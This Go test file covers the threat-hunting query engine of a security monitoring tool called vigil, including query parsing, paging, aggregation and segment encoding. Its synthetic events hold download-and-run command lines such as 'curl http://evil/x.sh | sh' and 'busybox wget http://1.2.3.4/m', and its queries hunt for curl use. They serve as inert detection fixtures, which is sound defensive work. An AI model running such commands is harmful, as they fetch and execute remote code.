package hunt

import (
	"context"
	crand "crypto/rand"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"math/rand/v2"
	"net/netip"
	"os"
	"path/filepath"
	"reflect"
	"sort"
	"strings"
	"testing"
	"time"

	"github.com/jackc/pgx/v5"
	"github.com/valyala/fastjson"
	"github.com/vigil-iot/vigil"

	"github.com/vigil-iot/vigil/store"
	"github.com/vigil-iot/vigil/store/postgres"
	"github.com/vigil-iot/vigil/store/sqlite"
)

var t0 = time.Date(2026, 3, 1, 0, 0, 0, 0, time.UTC)

func openStore(t testing.TB) *sqlite.Store {
	t.Helper()
	s, err := sqlite.Open(filepath.Join(t.TempDir(), "vigil.db"), sqlite.Options{})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { s.Close() })
	return s
}

var cmds = []string{"/bin/sh -c curl http://x/a.sh", "busybox wget http://1.2.3.4/m", "sshd -D", "nginx", "CURL -O /tmp/x"}

// genEvents makes n varied events: kinds, devices, users, commands,
// addresses, numbers, lists and absent fields.
func genEvents(n int, seed uint64) []vigil.Event {
	r := rand.New(rand.NewPCG(seed, 1))
	out := make([]vigil.Event, n)
	for i := range out {
		e := vigil.Event{ID: fmt.Sprintf("e%07d", i), Time: t0.Add(time.Duration(i) * time.Second), DeviceID: fmt.Sprintf("dev-%02d", r.IntN(40)), Source: "agent", Fields: map[string]any{}}
		switch r.IntN(3) {
		case 0:
			e.Kind, e.Action = vigil.KindProcess, "exec"
			e.Fields["process.command_line"] = cmds[r.IntN(len(cmds))]
			if r.IntN(2) == 0 {
				e.Fields["user.name"] = []string{"root", "admin", "pi"}[r.IntN(3)]
			}
		case 1:
			e.Kind, e.Action = vigil.KindAuth, "login"
			e.Outcome = []string{vigil.OutcomeSuccess, vigil.OutcomeFailure}[r.IntN(2)]
			e.Fields["user.name"] = []string{"root", "admin", "pi", "Root"}[r.IntN(4)]
			e.Network = &vigil.Network{Transport: "tcp", SrcIP: netip.AddrFrom4([4]byte{byte([]int{10, 192, 8}[r.IntN(3)]), 0, byte(r.IntN(4)), byte(r.IntN(250))}), DstPort: 22}
		default:
			e.Kind, e.Action = vigil.KindNetwork, "listen"
			e.Fields["destination.port"] = float64(r.IntN(3000))
			e.Fields["tags"] = []string{"a", []string{"b", "c"}[r.IntN(2)]}
			e.Fields["ok"] = r.IntN(2) == 0
		}
		out[i] = e
	}
	return out
}

var queries = []string{
	``,
	`process.command_line="*curl*"`,
	`process.command_line=*curl* NOT user.name=root`,
	`source.ip=10.0.0.0/8`,
	`source.ip=10.0.0.0/8 OR source.ip=192.0.0.0/8`,
	`NOT source.ip=10.0.0.0/8`,
	`destination.port>=1024 destination.port<2048`,
	`destination.port>2900 OR (kind=auth AND outcome=failure)`,
	`user.name!=root`,
	`user.name=*`,
	`NOT user.name=*`,
	`tags=c`,
	`tags!=c event.kind=network`,
	`ok=true`,
	`_time>=2026-03-01T05:00:00Z _time<2026-03-01T06:00:00Z`,
	`earliest=2026-03-01T10:00:00Z latest=2026-03-01T11:00:00Z user.name=pi`,
	`device.id=dev-0* (event.action=exec OR event.action=login)`,
	`NOT (NOT kind=auth OR NOT outcome=success)`,
}

// TestRunAgreesWithEvents runs queries over sealed segments and the
// unsealed tail and checks the matches and counts by device against the
// same predicate evaluated on each event.
func TestRunAgreesWithEvents(t *testing.T) { runAgrees(t, openStore(t)) }

// TestRunAgreesWithEventsPostgres: the same over PostgreSQL.
func TestRunAgreesWithEventsPostgres(t *testing.T) { runAgrees(t, openPostgres(t)) }

// eventStore is what the tests need of a store.
type eventStore interface {
	store.Analytics
	store.RetroJobs
	PutEvents(ctx context.Context, events []vigil.Event) error
}

// openPostgres opens a PostgreSQL store in a schema of its own, dropped
// after the test; it skips without VIGIL_TEST_POSTGRES_URL.
func openPostgres(t testing.TB) *postgres.Store {
	t.Helper()
	url := os.Getenv("VIGIL_TEST_POSTGRES_URL")
	if url == "" {
		t.Skip("VIGIL_TEST_POSTGRES_URL is not set (e.g. postgres://postgres@127.0.0.1:5432/test?sslmode=disable)")
	}
	var b [6]byte
	crand.Read(b[:])
	schema := "vigil_hunt_" + hex.EncodeToString(b[:])
	s, err := postgres.Open(context.Background(), url, postgres.Options{Schema: schema})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		s.Close()
		c, err := pgx.Connect(context.Background(), url)
		if err != nil {
			t.Errorf("cannot drop schema %s: %v", schema, err)
			return
		}
		defer c.Close(context.Background())
		if _, err := c.Exec(context.Background(), "DROP SCHEMA "+pgx.Identifier{schema}.Sanitize()+" CASCADE"); err != nil {
			t.Errorf("cannot drop schema %s: %v", schema, err)
		}
	})
	return s
}

func runAgrees(t *testing.T, s eventStore) {
	evs := genEvents(2*SegmentRows+5000, 7)
	for i := 0; i < len(evs); i += 4096 {
		if err := s.PutEvents(t.Context(), evs[i:min(i+4096, len(evs))]); err != nil {
			t.Fatal(err)
		}
	}
	max, _ := s.MaxEventSeq(t.Context())
	n, err := Seal(t.Context(), s, max)
	if err != nil || n != 2 {
		t.Fatalf("Seal = %d, %v; want 2 segments", n, err)
	}
	for _, qs := range queries {
		q, err := Parse(qs+" | stats count by device.id", t0)
		if err != nil {
			t.Fatalf("%s: %v", qs, err)
		}
		want := map[string]float64{}
		var total int64
		for i := range evs {
			if Matches(q.Search, &evs[i]) {
				want[evs[i].DeviceID]++
				total++
			}
		}
		res, err := Run(t.Context(), s, q, Options{Limit: MaxLimit})
		if err != nil {
			t.Fatalf("%s: %v", qs, err)
		}
		got := map[string]float64{}
		for _, row := range res.Rows {
			got[row[0].(string)] = row[1].(float64)
		}
		if fmt.Sprint(got) != fmt.Sprint(want) || res.Matched != total {
			t.Errorf("%q: got %d matches %v, want %d %v", qs, res.Matched, got, total, want)
		}
		if total == 0 || total == int64(len(evs)) {
			if qs != "" && qs != "NOT user.name=*" {
				t.Logf("%q selects %d of %d", qs, total, len(evs))
			}
		}
	}
}

func TestRunEventsPaging(t *testing.T) {
	s := openStore(t)
	evs := genEvents(SegmentRows+300, 3)
	if err := s.PutEvents(t.Context(), evs); err != nil {
		t.Fatal(err)
	}
	if _, err := Seal(t.Context(), s, 1<<62); err != nil {
		t.Fatal(err)
	}
	q, err := Parse(`user.name=root`, t0)
	if err != nil {
		t.Fatal(err)
	}
	var want []string
	for i := len(evs) - 1; i >= 0; i-- {
		if Matches(q.Search, &evs[i]) {
			want = append(want, evs[i].ID)
		}
	}
	var got []string
	cursor := ""
	pages := 0
	for {
		res, err := Run(t.Context(), s, q, Options{Limit: 1000, Cursor: cursor})
		if err != nil {
			t.Fatal(err)
		}
		pages++
		for _, e := range res.Events {
			got = append(got, e["event.id"].(string))
		}
		if res.Truncated != (res.Next != "") {
			t.Fatalf("truncated %v with next %q", res.Truncated, res.Next)
		}
		if res.Next == "" {
			break
		}
		cursor = res.Next
	}
	if strings.Join(got, ",") != strings.Join(want, ",") {
		t.Fatalf("paged events differ: got %d, want %d", len(got), len(want))
	}
	if pages < 2 {
		t.Errorf("%d pages; want several", pages)
	}
	// A page keeps its fields and types.
	res, err := Run(t.Context(), s, mustParse(t, `event.kind=network | head 1`), Options{})
	if err != nil || len(res.Events) != 1 || res.Truncated {
		t.Fatalf("head 1 = %+v, %v", res, err)
	}
	e := res.Events[0]
	if _, ok := e["destination.port"].(float64); !ok {
		t.Errorf("destination.port = %#v; want a number", e["destination.port"])
	}
	if _, ok := e["tags"].([]string); !ok {
		t.Errorf("tags = %#v; want a list", e["tags"])
	}
	if _, ok := e["ok"].(bool); !ok {
		t.Errorf("ok = %#v; want a bool", e["ok"])
	}
}

func mustParse(t *testing.T, q string) *Query {
	t.Helper()
	p, err := Parse(q, t0.Add(24*time.Hour))
	if err != nil {
		t.Fatalf("%s: %v", q, err)
	}
	return p
}

func TestPipeline(t *testing.T) {
	s := openStore(t)
	evs := []vigil.Event{
		{ID: "1", Time: t0, DeviceID: "cam-1", Kind: "auth", Outcome: "failure", Fields: map[string]any{"user.name": "root", "bytes": float64(10)}},
		{ID: "2", Time: t0.Add(10 * time.Minute), DeviceID: "cam-1", Kind: "auth", Outcome: "failure", Fields: map[string]any{"user.name": "admin", "bytes": float64(30)}},
		{ID: "3", Time: t0.Add(70 * time.Minute), DeviceID: "cam-2", Kind: "auth", Outcome: "failure", Fields: map[string]any{"user.name": "root"}},
		{ID: "4", Time: t0.Add(80 * time.Minute), DeviceID: "cam-2", Kind: "auth", Outcome: "success", Fields: map[string]any{"user.name": "root", "bytes": float64(5)}},
		{ID: "5", Time: t0.Add(90 * time.Minute), DeviceID: "plc-1", Kind: "process", Fields: map[string]any{"process.command_line": "curl http://evil/x.sh | sh"}},
	}
	if err := s.PutEvents(t.Context(), evs); err != nil {
		t.Fatal(err)
	}
	f := func(q, want string) {
		t.Helper()
		res, err := Run(t.Context(), s, mustParse(t, q), Options{})
		if err != nil {
			t.Fatalf("%s: %v", q, err)
		}
		var b strings.Builder
		fmt.Fprint(&b, res.Columns)
		for _, r := range res.Rows {
			fmt.Fprint(&b, r)
		}
		if b.String() != want {
			t.Errorf("%s:\n got %s\nwant %s", q, b.String(), want)
		}
	}
	f(`kind=auth | stats count by device.id`, `[device.id count][cam-1 2][cam-2 2]`)
	f(`kind=auth | stats count, dc(user.name) as users, sum(bytes), avg(bytes), min(bytes), max(bytes) by device.id | sort -users`,
		`[device.id count users sum(bytes) avg(bytes) min(bytes) max(bytes)][cam-1 2 2 40 20 10 30][cam-2 2 1 5 5 5 5]`)
	f(`kind=auth outcome=failure | top limit=1 user.name`, `[user.name count percent][root 2 66.67]`)
	f(`kind=auth | bin _time span=1h | stats count by _time`, `[_time count][2026-03-01T00:00:00Z 2][2026-03-01T01:00:00Z 2]`)
	f(`* | stats count`, `[count][5]`)
	f(`| stats count`, `[count][5]`)
	f(`nothing=here | stats count`, `[count][0]`)
	f(`| stats count by device.id | sort -count, device.id | head 2 | table device.id`, `[device.id][cam-1][cam-2]`)
	f(`| regex process.command_line="curl\s+http" | table device.id _time`, `[device.id _time][plc-1 2026-03-01T01:30:00Z]`)
	f(`| regex process.command_line!="^curl" | stats count`, `[count][4]`)
	f(`earliest=-24h latest=now | stats count`, `[count][5]`)
	f(`earliest=-1h | stats count`, `[count][0]`)
}

func TestParseErrors(t *testing.T) {
	f := func(q, want string) {
		t.Helper()
		_, err := Parse(q, t0)
		if err == nil {
			t.Fatalf("%s: no error; want %q", q, want)
		}
		if err.Error() != want {
			t.Errorf("%s:\n got %q\nwant %q", q, err.Error(), want)
		}
	}
	f(`curl`, `at position 1: expected field=value, found the bare word "curl" (free-text search is not supported: name the field, e.g. process.command_line="*curl*")`)
	f(`a=1 AND`, `at position 8: expected a condition, found the end of the query`)
	f(`(a=1 OR b=2`, `at position 12: expected ")" to close the "(" at position 1, found the end of the query`)
	f(`a="x`, `at position 3: unterminated quoted string`)
	f(`a=1 | stats`, `at position 12: expected an aggregation (count, dc(f), sum(f), avg(f), min(f), max(f)), found the end of the query`)
	f(`a=1 | frobnicate`, `at position 7: unknown command "frobnicate": want search, regex, bin, stats, top, sort, head or table`)
	f(`a=1 | sort -count`, `at position 7: sort needs stats or top before it (events come newest first)`)
	f(`| regex a="("`, `at position 11: bad regular expression: error parsing regexp: missing closing ): `+"`(`")
	f(`| bin _time span=1y`, `at position 18: cannot read span "1y": want a positive count and a unit s, m, h, d or w (1h, 7d)`)
	f(`earliest=yesterday`, `at position 10: earliest: cannot read time "yesterday": want RFC 3339 (2026-12-07T10:00:00Z), a date, now, or relative (-24h, -7d)`)
	f(`a!1`, `at position 2: "!" must be followed by "=" (use NOT to negate)`)
	f(`| stats count | stats count`, `at position 17: only one stats or top per query`)
	f(`| stats count by a | regex b="x"`, `at position 22: regex must come before stats or top`)
}

func TestRunErrors(t *testing.T) {
	s := openStore(t)
	_, err := Run(t.Context(), s, mustParse(t, `| stats count by a | sort -nope`), Options{})
	if err == nil || !strings.Contains(err.Error(), `no column "nope" in the table (columns: a, count)`) {
		t.Errorf("sort on a missing column: %v", err)
	}
	_, err = Run(t.Context(), s, mustParse(t, `a=1`), Options{Cursor: "junk"})
	if vigil.ErrorCode(err) != vigil.EINVALID {
		t.Errorf("bad cursor: %v", err)
	}
}

func TestSegmentRoundTrip(t *testing.T) {
	evs := genEvents(1000, 9)
	b := newBuilder()
	for i := range evs {
		b.add(int64(i+1), &evs[i])
	}
	seg := b.finish()
	st := seg.encode()
	back, err := decodeSegment(st.SegmentInfo, st.Columns)
	if err != nil {
		t.Fatal(err)
	}
	names := append([]string(nil), seg.names...)
	sort.Strings(names)
	if fmt.Sprint(names) != fmt.Sprint(back.names) {
		t.Fatalf("names %v != %v", back.names, names)
	}
	for _, n := range seg.names {
		for i := range evs {
			if fmt.Sprint(seg.cols[n].value(i)) != fmt.Sprint(back.cols[n].value(i)) {
				t.Fatalf("%s row %d: %v != %v", n, i, back.cols[n].value(i), seg.cols[n].value(i))
			}
		}
	}
	// Corrupt columns are errors, not panics.
	for name, c := range st.Columns {
		for cut := range len(c) {
			decodeColumn(c[:cut], len(evs))
		}
		_ = name
		break
	}
}

// TestSegmentFromJSONAgrees: a segment built from stored JSON holds what
// one built from the decoded events holds.
func TestSegmentFromJSONAgrees(t *testing.T) {
	evs := append(append(genEvents(3000, 21), benchEvents(0, 3000)...), packEvents(t)...)
	evs = append(evs, vigil.Event{ID: "odd", Time: t0, Kind: "x", Severity: vigil.SeverityHigh, Network: &vigil.Network{SrcPort: 7},
		Fields: map[string]any{"source.ip": "10.9.9.9", "source.port": float64(9), "device.id": "not-me", "kind": "nope", "n": nil, "l": []any{"a", float64(2), true}, "o": map[string]any{"x": "y"}}})
	fromEv, fromJSON := newBuilder(), newBuilder()
	var p fastjson.Parser
	for i := range evs {
		fromEv.add(int64(i+1), &evs[i])
		body, err := evs[i].AppendJSON(nil, false)
		if err != nil {
			t.Fatal(err)
		}
		if err := fromJSON.addJSON(&p, int64(i+1), body); err != nil {
			t.Fatal(err)
		}
	}
	a, b := fromEv.finish(), fromJSON.finish()
	if fmt.Sprint(a.names) != fmt.Sprint(b.names) {
		t.Fatalf("fields differ:\n%v\n%v", a.names, b.names)
	}
	if fmt.Sprint(a.times) != fmt.Sprint(b.times) {
		t.Fatal("times differ")
	}
	for _, n := range a.names {
		for i := range evs {
			ca, cb := a.cols[n], b.cols[n]
			if fmt.Sprintf("%#v", ca.value(i)) != fmt.Sprintf("%#v", cb.value(i)) || ca.display(ca.ids[i]) != cb.display(cb.ids[i]) {
				t.Fatalf("%s of %s: from JSON %#v, from the event %#v", n, evs[i].ID, cb.value(i), ca.value(i))
			}
		}
	}
}

// TestDecodeEventAgrees: decodeEvent gives what encoding/json gives.
func TestDecodeEventAgrees(t *testing.T) {
	evs := append(append(genEvents(2000, 23), benchEvents(0, 2000)...), packEvents(t)...)
	evs = append(evs, vigil.Event{ID: "odd", Time: t0, Received: t0.Add(time.Second), Kind: "x", Severity: vigil.SeverityHigh, Provenance: "token:x",
		Network: &vigil.Network{SrcPort: 7, DstIP: netip.MustParseAddr("2001:db8::1")},
		Fields:  map[string]any{"n": nil, "l": []any{"a", float64(2), true}, "o": map[string]any{"x": "y"}, "s": []string{"a", "b"}}})
	var p fastjson.Parser
	for i := range evs {
		body, err := evs[i].AppendJSON(nil, false)
		if err != nil {
			t.Fatal(err)
		}
		var want vigil.Event
		if err := json.Unmarshal(body, &want); err != nil {
			t.Fatal(err)
		}
		store.NormalizeFields(want.Fields)
		got, err := decodeEvent(&p, body)
		if err != nil {
			t.Fatalf("%s: %v", body, err)
		}
		if !reflect.DeepEqual(got, want) {
			t.Fatalf("%s:\n got %#v\nwant %#v", body, got, want)
		}
	}
	for _, bad := range []string{`[]`, `{"time":"x"}`, `{"id":1}`, `{"network":{"src_ip":"nope"}}`, `{"severity":"huge"}`, `{`} {
		if _, err := decodeEvent(&p, []byte(bad)); err == nil {
			t.Errorf("%s: no error", bad)
		}
	}
}

// TestDocExamplesParse: the queries of docs/hunting.md parse (the last
// one is its example of an error).
func TestDocExamplesParse(t *testing.T) {
	b, err := os.ReadFile("../docs/hunting.md")
	if err != nil {
		t.Fatal(err)
	}
	n := 0
	for _, line := range strings.Split(string(b), "\n") {
		_, rest, ok := strings.Cut(line, "vigil ctl hunt ")
		if !ok {
			continue
		}
		rest = strings.TrimPrefix(rest, "-o json ")
		if !strings.HasPrefix(rest, "'") {
			continue
		}
		q := rest[1 : 1+strings.Index(rest[1:], "'")]
		_, err := Parse(q, t0)
		if q == "QUERY" {
			continue
		}
		if q == "kind=auth AND" {
			if err == nil {
				t.Errorf("%s: no error", q)
			}
			continue
		}
		if err != nil {
			t.Errorf("docs/hunting.md: %s: %v", q, err)
		}
		n++
	}
	if n < 8 {
		t.Errorf("%d examples found in docs/hunting.md", n)
	}
}
